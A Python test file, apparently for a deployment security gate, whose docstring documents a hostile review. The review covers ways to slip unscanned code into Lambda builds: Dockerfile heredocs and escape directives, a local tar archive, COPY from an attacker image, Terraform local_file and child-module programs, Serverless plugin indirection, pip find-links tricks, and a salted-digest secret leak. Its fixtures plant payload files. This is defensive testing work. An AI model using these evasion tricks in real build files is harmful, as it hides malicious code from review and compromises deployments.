"""A twenty-seventh hostile review of `gate check`, starting from the code changed last:
the dependency audit answered without its worker, review 26's refusals of the build
programs a deploy runs (Dockerfile steps, Terraform provisioners and external programs,
Serverless plugins and JavaScript variables, pip sources in requirement files and in
`pipCmdExtraArgs`), the exclude's bring-back of deployed code, and the digest of a
secret's value in its fingerprint.

Each attack is a confirmed problem: the test says what the gate must do, and a baseline
beside it shows the same bundle without the trick blocks. Every attack of 1 to 4 exited 0
with the hostile harness's policy (checkov off) and, by hand, with the default policy
(checkov on); the baseline (the file the trick plants already in the code) exits 1 with
bandit's B605. What lets each through:

1. The Dockerfile of a SAM image function is read line by line for `RUN`, `ONBUILD` and
   an `ADD` of a URL (gate.bundle.discovery.dockerfile `image_programs`, `_instructions`);
   anything else is taken to copy the scanned context only. Four ways to put code in the
   image that the gate never sees, with no such step: a heredoc, `COPY <<EOF
   ${LAMBDA_TASK_ROOT}/sitecustomize.py` (BuildKit's Dockerfile 1.4 syntax, docker's
   default builder: the file's lines are read as instructions named `import`, `os.system`
   and `EOF`); the `# escape=`` ` parser directive, after which a line ending in `\\` does
   not continue, but `_instructions` joins the next line, a `RUN`, into it (`ENV X=a\\`
   then `RUN ...`); `ADD extra.tar.gz ${LAMBDA_TASK_ROOT}/`, a local tar archive docker
   unpacks into the image (the archive is in the context; nothing scans inside it); and
   `COPY --from=ghcr.io/attacker/tools:latest`, files of another image, fetched from
   elsewhere as an ADD of a URL is.
2. Terraform code written before the zip by what `_Builders`
   (gate.bundle.discovery.terraform) does not count as a program: a `local_file`
   resource whose `filename` is in the archive's `source_dir` (its content in the .tf
   file, base64-decoded: no program runs, and the gate reads `source_dir` as it is), and
   a `local-exec` provisioner or `data "external"` program in a child module
   (`module "build" { source = "./build" }`) that the archive_file waits for with
   `depends_on = [module.build]`: `_Builders` only knows the blocks of the function's own
   directory, and `before()` follows addresses of those blocks only; the child module's
   directory has no function, so its programs are nobody's.
3. The Serverless Framework runs bundle code that `build_programs` and
   `serverless_references` (gate.bundle.discovery.serverless, .references) do not see:
   `plugins: ${file(./plugins.yml)}` (the Framework resolves `${file()}` in `plugins`
   before it loads them; `build_programs` gets a string, not a list, and reads no
   plugin, so `./tools/boot` is never refused); and a JavaScript variable
   `${file(./config.js):stage}` inside a YAML file that serverless.yml includes with
   `${file(./settings.yml)}` (`serverless_references` reads the strings of serverless.yml
   only; the Framework resolves variables in what it includes too).
4. pip sources the gate does not read: a requirements line holding two options,
   `--no-index --find-links ../wheels` (pip reads every option of an option line;
   gate.bundle.manifests.requirements `_classify_line` tries `_SOURCE` at the start of
   the line only, then `_OPTION_WITH_VALUE` matches `--no-index` and the line is skipped
   as an option), so `sam build` installs wheels/six-1.16.0-*.whl of the bundle; and
   serverless-python-requirements' `pipCmdExtraArgs` whose source is a Framework
   variable, `['--find-links', '${self:custom.wheels}']` (`local_source` takes every
   `${` value for the runner's environment, but `${self:}`, `${file():}` and the like are
   the bundle's own), or written as `pipCmdExtraArgs: ${file(./pipargs.yml)}`
   (`_refuse_local_sources` reads only a list). With the policy's `exclude:
   ["wheels/**"]`, the wheel is no zip of the code either: the run passes.
5. Secret leak: a secret's digest is a SHA-256 with a fixed, published salt
   (gate.redact `secret_digest`), so the value of a guessable secret (a password under a
   secret's name, GATE-IAC-012) is confirmed offline from what the gate writes: the
   digest is verbatim in the anchor the findings cache stores
   (`~/.cache/.../findings/*.json`), and the report's fingerprint is a SHA-256 of fields
   the report shows (scanner, rule, bundle, path, resource) and an anchor of the
   resource, the variable's name and that digest (gate.model `Finding.fingerprint`,
   gate.rules.iac.secrets `_finding`): one hash per guess confirms it (the digest has 64
   bits, a password far fewer). The tests guess right on the first try.

Suggested fixes, by class: 1, read a Dockerfile by an allow-list, not a deny-list: an
image function is scanned only when its Dockerfile is FROM, COPY of context files (no
`--from`, no heredoc, no archive through ADD), ENV/WORKDIR/CMD/ENTRYPOINT/LABEL/
ARG/USER/EXPOSE, parsed after its parser directives (`escape`, `syntax`) as BuildKit
parses it; anything else is refused or left out by the policy. 2, a Terraform function
whose archive_file waits (`depends_on`, a reference, through any chain) on a module call
or on any block that can write files (`local_file`, `local_sensitive_file`, a
provisioner of any resource), or whose module or a module it calls holds an `external`
data source, is unbuilt: refused unless left out, as a local-exec one is; better, an
archive that waits on anything at all makes its function unbuilt. 3, refuse `plugins`
(and every section the Framework resolves before it loads plugins) written as a
variable, and collect `${file(...)}` references from every file the service includes,
recursively, not from serverless.yml alone. 4, parse a requirements option line as pip
does (shlex, then every option), and take a `pipCmdExtraArgs` or source value that is a
Framework variable (anything but `${env:...}`) as unresolved, so refused. 5, key the
digest with a secret the reader of a report or cache lacks (GATE_CACHE_KEY, or a random
key kept in the private cache), or keep the value out of anything written and match a
baselined secret by checkov's own hash in memory only.

Also tried, and the gate held: the dependency audit answered without its worker
(`idle_output`, `_reads_something`; compared by reading, not by a case): it reads the
same names and metadata folders as the worker's own fast path (`_Read`:
`requirements*.txt` by the same glob, the lock readers' names,
`*.dist-info`/`*.egg-info` at any depth, a manifest a samconfig `manifest` or the
plugin's `fileName` names, whatever its name), on the same copy, and an `--advisory-db`
or a cache written by `gate db update` starts the worker; its cache key is the worker's;
the layer of a SAM function declared as `AWS::Serverless::LayerVersion`, through
`Globals.Function.Layers`, and as `AWS::Lambda::LayerVersion` with a local `Content`,
its python/helpers.py excluded by the policy and imported by the handler (brought back:
B602 blocks); a literal `--find-links ./wheels` in `pipCmdExtraArgs` and a wheel in the
service folder without an exclude (refused, as a zip in the code). Read, and judged
sound without a case: Dockerfile steps in lowercase, in JSON form, in a later stage
(`FROM x AS y` then `RUN`), after a blank line or comment inside a continuation (read
conservatively); a pip option abbreviated (`--find ../wheels`: not a valid requirement,
refused); options after a `\\` continuation (joined as pip does).

Not covered: `package.json` `scripts` (`postinstall`, `prepare`) run by `npm ci` before
`sls package` (the pipeline's step, not the Framework's); a base image (`FROM`) of the
attacker's choice (the gate takes any base image as third-party); diff mode, shards and
`gate merge` against these bundles; the leave_out of a build program's scan error; GitLab
and Jenkins log conventions; Chalice `vendor/`; `dockerRunCmdExtraArgs` and `dockerEnv`.


Fixed, each by its class: 1, a Dockerfile is read as docker reads it (parser directives,
then instructions with continuation lines) against an allow-list: only steps that set
options or `COPY` files of the context (no `--from`, no heredoc) put nothing unread into
the image; anything else is a part the gate cannot follow (gate.bundle.discovery
.dockerfile). 2, what an archive_file waits for through any chain of blocks counts when it
runs a program, writes a file (`local_file`) or is a module call, and an `external` data
source of the module or of a local module it calls always counts (gate.bundle.discovery
.terraform `_Builders`). 3, `plugins` (and its `modules`) are read through `${file()}`, a
plugin the gate cannot resolve is refused, and every YAML or JSON file a `${file()}` names
is searched for `${file()}` in turn (gate.bundle.discovery.read `_file_references`). 4, a
requirements line is split as pip splits it and every source option on it is judged, and
`pipCmdExtraArgs` is read through `${file()}`, a source value that is a Framework
variable other than `${env:}` refused. 5, a secret's fingerprint no longer carries a
digest of its value (review 26's first fix); a secret is never baselined instead. And
what the Serverless Framework runs from the bundle is no longer a refusal of the whole
bundle but, as a Makefile or a Dockerfile's steps, a part of each of the service's
functions the gate cannot follow: a scan error for Python, which `leave_out` accepts once
read (gate.bundle.discovery.read `_built_by`), so a Node.js example's local plugin no
longer stops a repository of 233 functions.
"""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import pytest

from tests.hostile.conftest import (
    CHEAP_POLICY,
    Layout,
    Sandbox,
    assert_blocks,
    each_blocked_or_refused,
    each_blocks,
    on_rule,
    with_file,
)
from tests.hostile.test_review25 import HARMLESS
from tests.hostile.test_review26 import (
    ENCODED,
    PLANT_COMMAND,
    PLANTED,
    SAM_IMAGE,
    SAM_ZIP,
    WRITE_JS,
    sam_function,
    service,
    terraform,
    wheel,
)

EXCLUDING_WHEELS = CHEAP_POLICY + 'exclude: ["wheels/**"]\n'

# --- 1. what a Dockerfile puts in the image without a RUN ---------------------------------------

FROM = "FROM public.ecr.aws/lambda/python:3.12\nCOPY . ${LAMBDA_TASK_ROOT}\n"
CMD = 'CMD ["app.handler"]\n'


def image(sandbox: Sandbox, dockerfile: str = FROM + CMD) -> None:
    """A SAM image function built from src/Dockerfile."""
    sandbox.write("template.yaml", SAM_IMAGE)
    sandbox.write("src/app.py", HARMLESS)
    sandbox.write("src/Dockerfile", dockerfile)


def heredoc(sandbox: Sandbox) -> None:
    image(
        sandbox,
        f"# syntax=docker/dockerfile:1\n{FROM}"
        f"COPY <<EOF ${{LAMBDA_TASK_ROOT}}/sitecustomize.py\n{PLANTED}EOF\n{CMD}",
    )


def escape_directive(sandbox: Sandbox) -> None:
    run = f"RUN echo {ENCODED} | base64 -d > ${{LAMBDA_TASK_ROOT}}/sitecustomize.py\n"
    image(sandbox, f"# escape=`\n{FROM}ENV X=a\\\n{run}{CMD}")


def local_archive(sandbox: Sandbox) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        member = tarfile.TarInfo("sitecustomize.py")
        member.size = len(PLANTED)
        archive.addfile(member, io.BytesIO(PLANTED.encode()))
    image(sandbox, f"{FROM}ADD extra.tar.gz ${{LAMBDA_TASK_ROOT}}/\n{CMD}")
    sandbox.write("src/extra.tar.gz", buffer.getvalue())


def copy_from_image(sandbox: Sandbox) -> None:
    image(
        sandbox,
        f"{FROM}COPY --from=ghcr.io/attacker/tools:latest /sitecustomize.py "
        f"${{LAMBDA_TASK_ROOT}}/\n{CMD}",
    )


# --- 2. Terraform writes the code before the zip ------------------------------------------------


def local_file(sandbox: Sandbox) -> None:
    terraform(
        sandbox,
        '\nresource "local_file" "boot" {\n'
        '  filename = "${path.module}/src/sitecustomize.py"\n'
        f'  content  = base64decode("{ENCODED}")\n}}\n',
        depends="local_file.boot",
    )


def child_module(block: str) -> Layout:
    """The archive waits for module ./build, which holds `block`."""

    def layout(sandbox: Sandbox) -> None:
        terraform(sandbox, '\nmodule "build" {\n  source = "./build"\n}\n', depends="module.build")
        sandbox.write("build/main.tf", block)

    return layout


MODULE_LOCAL_EXEC = (
    'resource "null_resource" "build" {\n  provisioner "local-exec" {\n'
    f'    command     = "{PLANT_COMMAND}"\n    working_dir = "${{path.module}}/.."\n  }}\n}}\n'
)
MODULE_EXTERNAL = (
    'data "external" "build" {\n'
    f'  program = ["sh", "-c", "cd .. && {PLANT_COMMAND}; echo {{}}"]\n}}\n'
)

# --- 3. the Framework runs code of the bundle ---------------------------------------------------


def plugins_file(sandbox: Sandbox) -> None:
    service(sandbox, "plugins: ${file(./plugins.yml)}\n")
    sandbox.write("plugins.yml", "- ./tools/boot\n")
    sandbox.write(
        "tools/boot.js",
        "class Boot {\n  constructor() {\n"
        f"    this.hooks = {{'before:package:createDeploymentArtifacts': {WRITE_JS}}};\n"
        "  }\n}\nmodule.exports = Boot;\n",
    )


def included_js_variable(sandbox: Sandbox) -> None:
    service(sandbox, "custom:\n  settings: ${file(./settings.yml)}\n")
    sandbox.write("settings.yml", "stage: ${file(./config.js):stage}\n")
    sandbox.write("config.js", f"module.exports.stage = {WRITE_JS};\n")


# --- 4. pip installs a wheel of the bundle ------------------------------------------------------


def sam_wheels(sandbox: Sandbox, requirements: str = "six==1.16.0\n") -> None:
    sam_function(sandbox, requirements)
    sandbox.write("wheels/six-1.16.0-py3-none-any.whl", wheel())


def two_options(sandbox: Sandbox) -> None:
    sam_wheels(sandbox, "--no-index --find-links ../wheels\nsix==1.16.0\n")


def python_requirements(settings: str = "") -> Layout:
    """A service whose requirements the plugin installs, with `settings` (YAML under
    `custom`), beside a folder of wheels."""

    def layout(sandbox: Sandbox) -> None:
        service(
            sandbox,
            f"plugins:\n  - serverless-python-requirements\ncustom:\n  wheels: ./wheels\n"
            f"  pythonRequirements:\n    dockerizePip: false\n{settings}",
        )
        sandbox.write("app.py", "import six  # noqa: F401\n\n\n" + HARMLESS)
        sandbox.write("requirements.txt", "six==1.16.0\n")
        sandbox.write("wheels/six-1.16.0-py3-none-any.whl", wheel())
        sandbox.write("pipargs.yml", "- --find-links\n- ./wheels\n")

    return layout


# name: (the bundle without the trick, with it, where it puts code, the policy)
TRICKS: dict[str, tuple[Layout, Layout, str, str]] = {
    "dockerfile-heredoc": (image, heredoc, "src/sitecustomize.py", CHEAP_POLICY),
    "dockerfile-escape": (image, escape_directive, "src/sitecustomize.py", CHEAP_POLICY),
    "dockerfile-add-archive": (image, local_archive, "src/sitecustomize.py", CHEAP_POLICY),
    "dockerfile-copy-from": (image, copy_from_image, "src/sitecustomize.py", CHEAP_POLICY),
    "terraform-local-file": (terraform, local_file, "src/sitecustomize.py", CHEAP_POLICY),
    "terraform-module-local-exec": (
        terraform, child_module(MODULE_LOCAL_EXEC), "src/sitecustomize.py", CHEAP_POLICY,
    ),
    "terraform-module-external": (
        terraform, child_module(MODULE_EXTERNAL), "src/sitecustomize.py", CHEAP_POLICY,
    ),
    "serverless-plugins-file": (service, plugins_file, "sitecustomize.py", CHEAP_POLICY),
    "serverless-included-js": (service, included_js_variable, "sitecustomize.py", CHEAP_POLICY),
    "requirements-two-options": (sam_wheels, two_options, "src/six.py", CHEAP_POLICY),
    "pip-args-self-variable": (
        python_requirements(),
        python_requirements("    pipCmdExtraArgs: ['--find-links', '${self:custom.wheels}']\n"),
        "six.py",
        EXCLUDING_WHEELS,
    ),
    "pip-args-file": (
        python_requirements(),
        python_requirements("    pipCmdExtraArgs: ${file(./pipargs.yml)}\n"),
        "six.py",
        EXCLUDING_WHEELS,
    ),
}  # fmt: skip


@pytest.mark.parametrize("policy", [CHEAP_POLICY, EXCLUDING_WHEELS])
def test_the_code_each_trick_puts_in_blocks(tmp_path: Path, policy: str) -> None:
    """The baselines, in one run of every bundle under one policy: the same bundle without
    the trick, the file it would put in the deployed code already there, blocks (B605)."""
    layouts = {
        name: with_file(plain, planted, PLANTED)
        for name, (plain, _, planted, own) in TRICKS.items()
        if own == policy
    }
    each_blocks(tmp_path, on_rule("B605", layouts), policy)


@pytest.mark.parametrize("policy", [CHEAP_POLICY, EXCLUDING_WHEELS])
def test_code_the_build_puts_in_is_scanned_or_refused(tmp_path: Path, policy: str) -> None:
    """The deploy's build puts code the gate never read into the function: the run must
    not pass (the tricks checked under one policy at a time, each under its own)."""
    layouts = {
        name: tricked for name, (_, tricked, _, own) in sorted(TRICKS.items()) if own == policy
    }
    each_blocked_or_refused(tmp_path, layouts, policy)


# --- 5. a guessable secret confirmed from what the gate writes ----------------------------------

PASSWORDS = ("Summer2024!", "Winter2025?")


def password(sandbox: Sandbox, value: str = PASSWORDS[0]) -> dict[str, str]:
    """A function with a password in its environment: the gate's GATE-IAC-012 finding
    on it, as the JSON report gives it."""
    sandbox.write(
        "template.yaml",
        SAM_ZIP + f"      Environment:\n        Variables:\n          DB_PASSWORD: '{value}'\n",
    )
    sandbox.write("src/app.py", HARMLESS)
    report = sandbox.base / "report.json"
    run = sandbox.run("--report", f"json={report}")
    assert_blocks(run)
    assert value not in run.stdout + report.read_text(encoding="utf-8")
    findings = json.loads(report.read_text(encoding="utf-8"))["findings"]
    return next(f for f in findings if f["rule_id"] == "GATE-IAC-012")


def test_a_password_blocks_and_is_not_printed(sandbox: Sandbox) -> None:
    """The baseline: the password is a blocking finding, its value in no output."""
    assert password(sandbox)["status"] == "blocking"


def test_nothing_the_gate_writes_depends_on_a_secrets_value(sandbox: Sandbox) -> None:
    """Fixed: the finding's fingerprint, and every file of the findings cache, are the
    same whichever password the bundle holds, so nothing written confirms a guess (and a
    secret is never baselined, gate.policy.baseline `_secret`)."""
    cached = []
    fingerprints = []
    for value in PASSWORDS:
        fingerprints.append(password(sandbox, value)["fingerprint"])
        entries = sorted(p for p in sandbox.cache.rglob("*") if p.is_file())
        cached.append({p.name: value.encode() in p.read_bytes() for p in entries})
    assert fingerprints[0] == fingerprints[1]
    assert not any(any(found.values()) for found in cached), cached
